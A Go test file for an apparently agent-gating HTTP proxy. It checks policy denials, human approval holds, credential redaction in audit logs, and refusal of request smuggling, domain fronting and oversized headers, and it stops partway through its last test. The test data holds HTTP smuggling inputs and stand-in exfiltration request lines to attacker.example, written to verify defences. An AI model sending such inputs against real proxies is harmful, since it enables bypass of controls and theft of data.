package proxy

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"

	"github.com/countersign/countersign/action"
	"github.com/countersign/countersign/action/aws"
	"github.com/countersign/countersign/action/git"
	"github.com/countersign/countersign/action/github"
	"github.com/countersign/countersign/action/graphql"
	"github.com/countersign/countersign/action/kubernetes"
	"github.com/countersign/countersign/action/mcp"
	"github.com/countersign/countersign/approval"
	"github.com/countersign/countersign/audit"
	"github.com/countersign/countersign/internal/redact"
	"github.com/countersign/countersign/internal/testinfra"
	"github.com/countersign/countersign/policy"
	"github.com/countersign/countersign/session"
	"github.com/google/go-cmp/cmp"
)

const denyDeletes = `package countersign

deny contains {"id": "T-001", "msg": "deleting repositories is not allowed"} if input.request.method == "DELETE"
`

const approveEC2 = `package countersign

approve contains {"id": "T-002", "msg": "terminating instances needs a human"} if {
	input.request.host == "ec2.us-east-1.amazonaws.com"
	input.request.body.Action == "TerminateInstances"
}
`

func TestAllowedRequestIsForwarded(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: denyDeletes})
	resp, body := h.do("GET", "https://api.github.com/repos/acme/shop", "")
	if resp.StatusCode != 200 {
		t.Fatalf("GET status = %d, body %q", resp.StatusCode, body)
	}
	if got := resp.Header.Get("X-Countersign-Decision"); got != "allow" {
		t.Errorf("X-Countersign-Decision = %q, want allow", got)
	}
	if n := h.up.Count("GET", "/repos/acme/shop"); n != 1 {
		t.Errorf("upstream saw %d GETs, want 1", n)
	}
	ds := h.decisions()
	if len(ds) != 1 || ds[0].Decision != "allow" || ds[0].Request.Host != "api.github.com" || ds[0].PolicyRevision == "" {
		t.Fatalf("decision records = %+v", ds)
	}
}

func TestDeniedRequestNeverReachesUpstream(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: denyDeletes})
	resp, body := h.do("DELETE", "https://api.github.com/repos/acme/shop", "")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("DELETE status = %d, want 403", resp.StatusCode)
	}
	if !strings.HasPrefix(body, "countersign: denied by policy T-001: deleting repositories is not allowed") {
		t.Errorf("body = %q", body)
	}
	if resp.Header.Get("X-Countersign-Decision") != "deny" {
		t.Errorf("X-Countersign-Decision = %q", resp.Header.Get("X-Countersign-Decision"))
	}
	h.wantNoUpstream(t)
	ds := h.decisions()
	if len(ds) != 1 || ds[0].Decision != "deny" || len(ds[0].RuleIDs) != 1 || ds[0].RuleIDs[0] != "T-001" {
		t.Fatalf("decision records = %+v", ds)
	}
}

func TestCredentialsAreRedactedInAudit(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	const secret = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
	h.do("POST", "https://api.github.com/repos/acme/shop/issues?token=s3cr3t-query", `{"title":"x","note":"`+secret+`"}`,
		"Authorization", "token "+secret, "Cookie", "session=abc", "Content-Type", "application/json")
	// A file holding the token, committed through the contents API:
	// base64 in the body.
	encoded := base64.StdEncoding.EncodeToString([]byte("GITHUB_TOKEN=" + secret + "\n"))
	h.do("PUT", "https://api.github.com/repos/acme/shop/contents/.env", `{"message":"add .env","content":"`+encoded+`"}`,
		"Content-Type", "application/json")
	raw, err := readFile(h.logPath)
	if err != nil {
		t.Fatal(err)
	}
	for _, leak := range []string{secret, "s3cr3t-query", "session=abc", encoded} {
		if strings.Contains(raw, leak) {
			t.Errorf("audit log contains %q", leak)
		}
	}
	// The upstream still got the real credential: redaction is for people
	// and logs, not for the request.
	reqs := h.up.Requests()
	if len(reqs) != 2 || reqs[0].Header.Get("Authorization") != "token "+secret {
		t.Fatalf("upstream Authorization = %q", reqs[0].Header.Get("Authorization"))
	}
}

// A policy message may quote the path, which the policy reads as sent: a
// token in it is masked in the audit log and on the approval page all the
// same (found by review: the default policy's message carried a token
// from GitHub's revoke-grant route, percent-encoded).
func TestPathTokenInPolicyMessageIsRedacted(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: `package countersign

approve contains sprintf("%s changes infrastructure (%s %s%s)", [input.request.method, input.request.method, input.request.host, input.request.path]) if input.request.method == "DELETE"
`, hold: 300 * time.Millisecond})
	tok := "ghp_" + "Ab3dEf6hIj9lMn2pQr5tUv8xYz1bCd4fGh7J"
	enc := strings.Replace(tok, "_", "%5F", 1)
	resp, _ := h.do("DELETE", "https://api.github.com/applications/Iv1.0123456789abcdef/grants/"+enc, "")
	resp.Body.Close()
	rec := h.waitPending()
	if len(rec.Messages) != 1 || !strings.Contains(rec.Messages[0], "/grants/"+redact.Mask) {
		t.Errorf("approval messages = %q, want the token masked", rec.Messages)
	}
	raw, err := readFile(h.logPath)
	if err != nil {
		t.Fatal(err)
	}
	for _, leak := range []string{tok, enc, strings.TrimPrefix(tok, "ghp_")} {
		if strings.Contains(raw, leak) {
			t.Errorf("audit log contains %q", leak)
		}
	}
}

func TestHeldRequestForwardedOnceAfterApproval(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2})
	type result struct {
		resp *http.Response
		body string
	}
	done := make(chan result, 1)
	go func() {
		resp, body := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", "Action=TerminateInstances&InstanceId.1=i-0abc",
			"Content-Type", "application/x-www-form-urlencoded")
		done <- result{resp, body}
	}()
	rec := h.waitPending()
	if n := h.up.Count("", ""); n != 0 {
		t.Fatalf("upstream saw %d requests before approval", n)
	}
	if rec.Request.Body != "Action=TerminateInstances&InstanceId.1=i-0abc" || rec.SessionID != h.sess.ID {
		t.Errorf("approval record = %+v", rec)
	}
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	r := <-done
	if r.resp.StatusCode != 200 || !strings.Contains(r.body, "TerminateInstancesResponse") {
		t.Fatalf("held request answered %d %q", r.resp.StatusCode, r.body)
	}
	if r.resp.Header.Get("X-Countersign-Approval") != rec.ID {
		t.Errorf("X-Countersign-Approval = %q, want %s", r.resp.Header.Get("X-Countersign-Approval"), rec.ID)
	}
	if got := h.responseOf(r.resp); got.ApprovalID != rec.ID || got.UpstreamStatus != 200 {
		t.Errorf("response record = %+v, want upstream status 200 and approval %s", got, rec.ID)
	}
	reqs := h.up.Requests()
	if len(reqs) != 1 || string(reqs[0].Body) != "Action=TerminateInstances&InstanceId.1=i-0abc" {
		t.Fatalf("upstream requests = %+v", reqs)
	}
}

// A held request's connection is served on by a new goroutine once the
// hold ends (serveHTTP1): the same connection answers the held request and
// then the next ones.
func TestConnectionServesOnAfterHold(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2})
	tc, br := h.tlsTunnel("ec2.us-east-1.amazonaws.com:443", "ec2.us-east-1.amazonaws.com")
	send := func(body string) {
		t.Helper()
		if _, err := fmt.Fprintf(tc, "POST / HTTP/1.1\r\nHost: ec2.us-east-1.amazonaws.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body); err != nil {
			t.Fatal(err)
		}
	}
	read := func(what string) { t.Helper(); wantKeptOK(t, br, what) }
	send("Action=TerminateInstances&InstanceId.1=i-0abc")
	rec := h.waitPending()
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	read("held request")
	send("Action=DescribeInstances")
	read("next request")
	send("Action=TerminateInstances&InstanceId.1=i-0def")
	rec = h.waitPending()
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	read("second held request")
	if n := h.up.Count("", ""); n != 3 {
		t.Errorf("upstream saw %d requests, want 3", n)
	}
}

func TestHeldRequestDeniedCarriesReason(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2})
	done := make(chan string, 1)
	go func() {
		resp, body := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", "Action=TerminateInstances&InstanceId.1=i-0abc",
			"Content-Type", "application/x-www-form-urlencoded")
		done <- fmt.Sprintf("%d %s", resp.StatusCode, body)
	}()
	rec := h.waitPending()
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: false, Approver: "cli:bob", Via: "cli", Reason: "not in prod"}); err != nil {
		t.Fatal(err)
	}
	got := <-done
	if !strings.HasPrefix(got, "403 countersign: denied by approver cli:bob") || !strings.Contains(got, "not in prod") {
		t.Errorf("answer = %q", got)
	}
	h.wantNoUpstream(t)
}

func TestHoldTimeoutThenGrantAdmitsOneRetry(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2, hold: 50 * time.Millisecond})
	send := func() (*http.Response, string) {
		return h.do("POST", "https://ec2.us-east-1.amazonaws.com/", "Action=TerminateInstances&InstanceId.1=i-0abc",
			"Content-Type", "application/x-www-form-urlencoded")
	}
	resp, body := send()
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "approval pending as ap-") || resp.Header.Get("X-Countersign-Decision") != "pending" {
		t.Fatalf("first answer %d %q", resp.StatusCode, body)
	}
	id := resp.Header.Get("X-Countersign-Approval")
	if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	resp, body = send()
	if resp.StatusCode != 200 {
		t.Fatalf("retry after approval: %d %q", resp.StatusCode, body)
	}
	if got := resp.Header.Get("X-Countersign-Approval"); got != id {
		t.Errorf("the retry's X-Countersign-Approval = %q, want %s", got, id)
	}
	if got := h.responseOf(resp); got.ApprovalID != id {
		t.Errorf("the retry's response record names approval %q, want %s", got.ApprovalID, id)
	}
	if n := h.up.Count("POST", "/"); n != 1 {
		t.Fatalf("upstream saw %d POSTs, want 1", n)
	}
	// The grant was for one retry: the next identical request asks again.
	resp, _ = send()
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Countersign-Approval") == id {
		t.Fatalf("second retry: %d, approval %q (grant must be single-use)", resp.StatusCode, resp.Header.Get("X-Countersign-Approval"))
	}
	if n := h.up.Count("POST", "/"); n != 1 {
		t.Fatalf("upstream saw %d POSTs, want 1", n)
	}
}

func TestRetryWhilePendingJoinsApproval(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2, hold: 50 * time.Millisecond})
	var ids []string
	for range 2 {
		resp, _ := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", "Action=TerminateInstances&InstanceId.1=i-0abc",
			"Content-Type", "application/x-www-form-urlencoded")
		ids = append(ids, resp.Header.Get("X-Countersign-Approval"))
	}
	if ids[0] == "" || ids[0] != ids[1] {
		t.Fatalf("approval ids %v: a retry of a pending request must join it", ids)
	}
	recs, _ := h.broker.List(t.Context(), false)
	if len(recs) != 1 {
		t.Fatalf("%d approval records, want 1", len(recs))
	}
}

func TestProxyCredentialsRequired(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	for _, withBadCreds := range []bool{false, true} {
		c, err := net.Dial("tcp", h.addr)
		if err != nil {
			t.Fatal(err)
		}
		req := "CONNECT api.github.com:443 HTTP/1.1\r\nHost: api.github.com:443\r\n"
		if withBadCreds {
			req += "Proxy-Authorization: Basic " + basic(h.sess.ID, "wrong") + "\r\n"
		}
		fmt.Fprint(c, req+"\r\n")
		resp, err := http.ReadResponse(bufioReader(c), &http.Request{Method: "CONNECT"})
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusProxyAuthRequired || resp.Header.Get("Proxy-Authenticate") == "" {
			t.Errorf("bad creds %v: status %d, Proxy-Authenticate %q", withBadCreds, resp.StatusCode, resp.Header.Get("Proxy-Authenticate"))
		}
		c.Close()
	}
	// Plain HTTP without credentials too.
	tr := &http.Transport{Proxy: http.ProxyURL(h.proxyURL(false))}
	defer tr.CloseIdleConnections()
	resp, err := (&http.Client{Transport: tr}).Get("http://example.test/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusProxyAuthRequired {
		t.Errorf("plain HTTP without credentials: %d, want 407", resp.StatusCode)
	}
	h.wantNoUpstream(t)
}

func TestHostMustMatchConnectTarget(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	tests := []struct {
		name, target, sni, request string
	}{
		{"Host header", "api.github.com:443", "api.github.com", "GET / HTTP/1.1\r\nHost: example.test\r\n\r\n"},
		{"absolute URL", "api.github.com:443", "api.github.com", "GET https://example.test/ HTTP/1.1\r\nHost: example.test\r\n\r\n"},
		{"port", "api.github.com:443", "api.github.com", "GET / HTTP/1.1\r\nHost: api.github.com:8443\r\n\r\n"},
		{"SNI", "api.github.com:443", "example.test", "GET / HTTP/1.1\r\nHost: api.github.com\r\n\r\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tc, br := h.tlsTunnel(tt.target, tt.sni)
			resp, b := sendRaw(t, tc, br, tt.request)
			if resp.StatusCode != http.StatusMisdirectedRequest || !strings.HasPrefix(b, "countersign:") {
				t.Errorf("status %d body %q, want 421", resp.StatusCode, b)
			}
		})
	}
	h.wantNoUpstream(t)
}

func TestAmbiguousFramingRefused(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	tests := []struct {
		name, request string
		want          int
	}{
		{"CL+TE", "POST / HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400},
		{"duplicate CL", "POST / HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello", 400},
		{"duplicate Host", "GET / HTTP/1.1\r\nHost: api.github.com\r\nHost: api.github.com\r\n\r\n", 400},
		{"bad chunking", "POST / HTTP/1.1\r\nHost: api.github.com\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n", 400},
		{"h2c upgrade", "GET / HTTP/1.1\r\nHost: api.github.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n", 400},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tc, br := h.tlsTunnel("api.github.com:443", "api.github.com")
			resp, _ := sendRaw(t, tc, br, tt.request)
			if resp.StatusCode != tt.want {
				t.Errorf("status %d, want %d", resp.StatusCode, tt.want)
			}
		})
	}
	h.wantNoUpstream(t)
	// Each refusal is audited.
	if n := len(h.decisions()); n < len(tests) {
		t.Errorf("%d decision records for %d refusals", n, len(tests))
	}
}

func TestAmbiguousFramingRefusedOnProxyPort(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	c, err := net.Dial("tcp", h.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	resp, _ := sendRaw(t, c, bufioReader(c), fmt.Sprintf("POST http://example.test/ HTTP/1.1\r\nHost: example.test\r\nProxy-Authorization: Basic %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", basic(h.sess.ID, h.password)))
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("status %d, want 400", resp.StatusCode)
	}
	h.wantNoUpstream(t)
}

// endlessHeader streams a request head whose one header never ends.
type endlessHeader struct{ left int }

func (e *endlessHeader) Read(p []byte) (int, error) {
	if e.left <= 0 {
		return 0, io.EOF
	}
	n := min(len(p), e.left)
	for i := range p[:n] {
		p[i] = 'a'
	}
	e.left -= n
	return n, nil
}

func TestHugeHeaderInTunnelRefusedWithFlatMemory(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	tc, br := h.tlsTunnel("api.github.com:443", "api.github.com")
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	writeErr := make(chan error, 1)
	go func() {
		if _, err := io.WriteString(tc, "GET / HTTP/1.1\r\nHost: api.github.com\r\nX-Big: "); err != nil {
			writeErr <- err
			return
		}
		// 48 MiB; the proxy stops reading after 1 MiB, so the write fails
		// or blocks until the connection closes.
		_, err := io.Copy(tc, &endlessHeader{left: 48 << 20})
		writeErr <- err
	}()
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
		t.Fatalf("status %d, want 431", resp.StatusCode)
	}
	tc.Close()
	<-writeErr
	runtime.ReadMemStats(&after)
	if grew := int64(after.TotalAlloc) - int64(before.TotalAlloc); grew > 24<<20 {
		t.Errorf("allocated %d MiB while refusing a 48 MiB header; want bounded", grew>>20)
	}
}

func TestPolicyErrorDeniesAndIsAudited(t *testing.T) {
	const broken = `package countersign

deny contains "bad" if json.unmarshal(input.request.headers["x-json"][0]) == 1
`
	h := newHarness(t, harnessOptions{policy: broken})
	resp, body := h.do("GET", "https://api.github.com/", "", "X-Json", "{not json")
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "policy error") {
		t.Fatalf("answer %d %q, want 403 policy error", resp.StatusCode, body)
	}
	h.wantNoUpstream(t)
	ds := h.decisions()
	if len(ds) != 1 || ds[0].Decision != "deny" || !strings.Contains(ds[0].Error, "policy error") {
		t.Fatalf("decision records = %+v", ds)
	}
}

// failingAudit fails every durable write while failing is true.
type failingAudit struct {
	log     *audit.Log
	failing bool
}

func (f *failingAudit) Record(ev *audit.Event) error {
	if f.failing {
		return fmt.Errorf("write audit log: %w", syscall.ENOSPC)
	}
	return f.log.Record(ev)
}

func (f *failingAudit) RecordAsync(ev *audit.Event) error { return f.Record(ev) }

func (f *failingAudit) RecordDeferred(ev *audit.Event) error { return f.Record(ev) }

func TestAuditFailureDeniesAndProxyStaysUp(t *testing.T) {
	fa := &failingAudit{failing: true}
	h := newHarness(t, harnessOptions{auditor: func(l *audit.Log) Auditor { fa.log = l; return fa }})
	resp, body := h.do("GET", "https://api.github.com/", "")
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(body, "audit log cannot be written") {
		t.Fatalf("answer %d %q", resp.StatusCode, body)
	}
	if n := h.up.Count("", ""); n != 0 {
		t.Fatalf("upstream saw %d requests while the audit log failed", n)
	}
	fa.failing = false
	resp, _ = h.do("GET", "https://api.github.com/user", "")
	if resp.StatusCode != 200 {
		t.Fatalf("after the disk recovered: %d", resp.StatusCode)
	}
}

// approvalAuditFails fails to record the opening of an approval only.
type approvalAuditFails struct{ *audit.Log }

func (a approvalAuditFails) Record(ev *audit.Event) error {
	if ev.Type == "approval" && ev.Detail == "requested" {
		return fmt.Errorf("write audit log: %w", syscall.ENOSPC)
	}
	return a.Log.Record(ev)
}

// An approval whose opening cannot be audited is not opened, and the agent
// is told it was the audit log, not the store.
func TestApprovalAuditFailureIsNamed(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2, auditor: func(l *audit.Log) Auditor { return approvalAuditFails{l} }})
	resp, body := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", "Action=TerminateInstances&InstanceId.1=i-0abc",
		"Content-Type", "application/x-www-form-urlencoded")
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(body, "audit log cannot be written") {
		t.Errorf("answer %d %q, want 503 naming the audit log", resp.StatusCode, body)
	}
	h.wantNoUpstream(t)
	if recs, _ := h.broker.List(t.Context(), false); len(recs) != 0 {
		t.Errorf("%d approvals opened without their audit record", len(recs))
	}
}

func TestNonTLSAfterConnectRefused(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	c, br := h.tunnel("api.github.com:443")
	resp, _ := sendRaw(t, c, br, "GET / HTTP/1.1\r\nHost: api.github.com\r\n\r\n")
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("status %d, want 400", resp.StatusCode)
	}
	h.wantNoUpstream(t)
}

func TestHTTP2OnlyClientRefused(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	c, br := h.tunnel("api.github.com:443")
	tc := tls.Client(&bufConn{Conn: c, r: br}, &tls.Config{ServerName: "api.github.com", InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err := tc.HandshakeContext(t.Context()); err == nil {
		t.Fatalf("handshake offering only h2 succeeded with ALPN %q", tc.ConnectionState().NegotiatedProtocol)
	}
}

func TestTunnelOutsideMITMNeedsPolicy(t *testing.T) {
	h := newHarness(t, harnessOptions{configure: func(o *Options) { o.MITM = []string{"api.github.com"} }})
	c, err := net.Dial("tcp", h.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\nProxy-Authorization: Basic %s\r\n\r\n", basic(h.sess.ID, h.password))
	resp, err := http.ReadResponse(bufioReader(c), &http.Request{Method: "CONNECT"})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("opaque tunnel without an explicit allow: %d, want 403", resp.StatusCode)
	}
}

func TestTunnelAllowedExplicitly(t *testing.T) {
	const tunnels = `package countersign

allow if not input.request.tunnel

allow if {
	input.request.tunnel
	input.request.host == "example.test"
}
`
	h := newHarness(t, harnessOptions{policy: tunnels, configure: func(o *Options) { o.MITM = []string{"api.github.com"} }})
	c, br := h.tunnel("example.test:443")
	// The tunnel is opaque: the client talks TLS to the upstream itself.
	tc := tls.Client(&bufConn{Conn: c, r: br}, &tls.Config{ServerName: "example.test", RootCAs: h.up.CA.Pool()})
	resp, _ := sendRaw(t, tc, bufioReader(tc), "GET /through HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\n\r\n")
	if resp.StatusCode != 200 || h.up.Count("GET", "/through") != 1 {
		t.Fatalf("status %d, upstream count %d", resp.StatusCode, h.up.Count("GET", "/through"))
	}
}

// An opaque tunnel carries TLS for the host it was allowed to only: a
// ClientHello for another name (a CDN serves many on one address), one
// that hides its name (ECH) and plain HTTP (whose Host header a front end
// routes by) are refused, audited, and nothing reaches the target; other
// protocols, server-first ones included, still pass (found by review).
func TestOpaqueTunnelCarriesItsOwnHostOnly(t *testing.T) {
	const tunnels = `package countersign

allow if not input.request.tunnel

allow if {
	input.request.tunnel
	input.request.host in {"example.test", "banner.test"}
}
`
	banner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer banner.Close()
	go func() {
		for {
			c, err := banner.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				io.WriteString(c, "SSH-2.0-fake\r\n")
				line, _ := bufio.NewReader(c).ReadString('\n')
				io.WriteString(c, line)
			}()
		}
	}()
	h := newHarness(t, harnessOptions{policy: tunnels, configure: func(o *Options) {
		o.MITM = []string{"api.github.com"}
		o.Resolve["banner.test:22"] = banner.Addr().String()
	}})
	fronted := func(serverName string) error {
		c, br := h.tunnel("example.test:443")
		defer c.Close()
		tc := tls.Client(&bufConn{Conn: c, r: br}, &tls.Config{ServerName: serverName, RootCAs: h.up.CA.Pool()})
		tc.SetDeadline(time.Now().Add(10 * time.Second))
		if err := tc.Handshake(); err != nil {
			return err
		}
		_, err := io.WriteString(tc, "GET /fronted HTTP/1.1\r\nHost: "+serverName+"\r\n\r\n")
		return err
	}
	if err := fronted("api.github.com"); err == nil {
		t.Error("a ClientHello for api.github.com through a tunnel to example.test completed its handshake")
	}
	c, br := h.tunnel("example.test:443")
	io.WriteString(c, "GET /plain HTTP/1.1\r\nHost: api.github.com\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(10 * time.Second))
	if n, _ := br.Read(make([]byte, 1)); n != 0 {
		t.Error("plain HTTP through an opaque tunnel was answered")
	}
	c.Close()
	if n := h.up.Count("", ""); n != 0 {
		t.Fatalf("the upstream got %d requests through fronted tunnels", n)
	}
	logged, err := os.ReadFile(h.logPath)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(logged, []byte("the ClientHello names api.github.com, not example.test")) || !bytes.Contains(logged, []byte("plain HTTP inside an opaque tunnel")) {
		t.Error("the refusals are not in the audit log")
	}
	// Its own name passes, and so does a protocol whose server speaks
	// first.
	if err := fronted("example.test"); err != nil {
		t.Errorf("a ClientHello for the tunnel's own host: %v", err)
	}
	c, br = h.tunnel("banner.test:22")
	defer c.Close()
	c.SetReadDeadline(time.Now().Add(10 * time.Second))
	line, err := br.ReadString('\n')
	if err != nil || line != "SSH-2.0-fake\r\n" {
		t.Fatalf("server-first banner through the tunnel: %q, %v", line, err)
	}
	io.WriteString(c, "SSH-2.0-client\r\n")
	if echo, err := br.ReadString('\n'); err != nil || echo != "SSH-2.0-client\r\n" {
		t.Errorf("client bytes through the tunnel: %q, %v", echo, err)
	}
}

// The first line of a tunnel's plain protocol: HTTP in any spelling a
// server takes is refused, other protocols' lines pass whole (found by
// review: leading blank lines, lower case, two spaces, CONNECT; and
// SMTP's "EHLO host…" was refused).
func TestPlainFirstLine(t *testing.T) {
	for _, tt := range []struct {
		give    string
		refused bool
	}{
		{"GET / HTTP/1.1\r\nHost: evil\r\n\r\n", true},
		{"\r\nGET / HTTP/1.1\r\n", true},
		{"get / HTTP/1.1\r\n", true},
		{"GET  /x  HTTP/1.0\r\n", true},
		{"M-SEARCH * HTTP/1.1\r\n", true},
		{"CONNECT evil:443 HTTP/1.1\r\n", true},
		{"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", true},
		{"GET /partial", true}, // the client waits: a request line begun
		{"G", true},            // … or a single letter (found by review: the rest came after the deadline)
		{"GET /\x80 HTTP/1.1\r\n", true},
		{"GET /a b HTTP/1.1\r\n", true},
		{strings.Repeat("\r\n", 2100) + "GET / HTTP/1.1\r\n", true},
		{"SSH-X /exfil?d=" + strings.Repeat("A", 5000) + " HTTP/1.1\r\nHost: attacker.example\r\n\r\n", true},
		{"GET http://attacker.example/exfil?d=SECRET\r\n", true},
		{"GET /exfil\r\n", true},
		{"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\nGET / HTTP/1.1\r\n", true},
		{"\r\n\r\n\x00\r\nQUIT\n!\x11\x00\x0c", true},
		{"AMQP\x00\x00\x09\x01", false},
		{"0032git-upload-pack /project.git\x00host=example.com\x00", false},
		{"\x80\x01\x00\x05", false},
		{"SSH-2.0-OpenSSH_9.6\r\n", false},
		{"EHLO host.example.com\r\n", false},
		{"USER hans\r\n", false},
		{"A001 LOGIN hans pw\r\n", false},
		{"\x00\x00\x00\x54\x00\x03\x00\x00user\x00alice\x00", false}, // PostgreSQL's startup message
		{"\x00\x00\x00\x08\x04\xd2\x16\x2f", true},                   // its SSLRequest: the ClientHello comes later
		{"\x00\x00\x00\x0c\x04\xd2\x16\x2f\x00\x00\x00\x00", true},   // padded
		{"GET /a\x01b HTTP/1.1\r\nHost: attacker.example\r\n\r\n", true},
	} {
		client, server := net.Pipe()
		go func() {
			io.WriteString(server, tt.give)
			// Then wait, as a client waiting for its answer does.
		}()
		client.SetReadDeadline(time.Now().Add(5 * time.Second))
		first, reason := plainFirstLine(client, readByte(t, client), 200*time.Millisecond)
		if (reason != "") != tt.refused {
			t.Errorf("%q: refused = %v (%q), want %v", tt.give, reason != "", reason, tt.refused)
		}
		if !tt.refused && !strings.HasPrefix(tt.give, string(first)) {
			t.Errorf("%q: relayed first %q, which is not what was sent", tt.give, first)
		}
		client.Close()
		server.Close()
	}
}

func readByte(t *testing.T, c net.Conn) byte {
	t.Helper()
	b := make([]byte, 1)
	if _, err := io.ReadFull(c, b); err != nil {
		t.Fatal(err)
	}
	return b[0]
}

func TestSNIMismatch(t *testing.T) {
	for _, tt := range []struct {
		sni, host string
		ok        bool
	}{
		{"example.test", "example.test", true},
		{"EXAMPLE.test.", "example.test", true},
		{"other.test", "example.test", false},
		{"", "example.test", false},
		{"", "192.0.2.1", true},
		{"example.test", "192.0.2.1", false},
	} {
		if got := sniMismatch(tt.sni, tt.host) == ""; got != tt.ok {
			t.Errorf("sniMismatch(%q, %q) passes = %v, want %v", tt.sni, tt.host, got, tt.ok)
		}
	}
}

func TestOwnListenerRefused(t *testing.T) {
	h := newHarness(t, harnessOptions{configure: func(o *Options) {
		o.Resolve = map[string]string{"me.test:443": "127.0.0.1"}
	}})
	// me.test resolves to the proxy's own address and port.
	_, port, _ := net.SplitHostPort(h.addr)
	h.srv.tunnelDialer.resolve = map[string]string{"me.test": "127.0.0.1", "me.test:" + port: h.addr}
	resp, body := h.do("GET", "https://me.test:"+port+"/", "")
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "own listener") {
		t.Fatalf("answer %d %q", resp.StatusCode, body)
	}
}

func TestPrivateAddressRefusedUnlessAllowed(t *testing.T) {
	h := newHarness(t, harnessOptions{configure: func(o *Options) { o.Guard.Allow = nil }})
	resp, body := h.do("GET", "https://api.github.com/", "")
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "loopback") {
		t.Fatalf("answer %d %q", resp.StatusCode, body)
	}
	h.wantNoUpstream(t)
}

func TestUpstreamTLSIsVerified(t *testing.T) {
	h := newHarness(t, harnessOptions{configure: func(o *Options) { o.RootCAs = nil }})
	// System roots do not include the fake upstream's CA.
	resp, body := h.do("GET", "https://api.github.com/", "")
	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(body, "certificate") {
		t.Fatalf("answer %d %q, want 502 naming the certificate", resp.StatusCode, body)
	}
	if n := h.up.Count("", ""); n != 0 {
		t.Errorf("upstream answered %d requests over unverified TLS", n)
	}
}

func TestHopByHopHeadersStripped(t *testing.T) {
	h := newHarness(t, harnessOptions{})
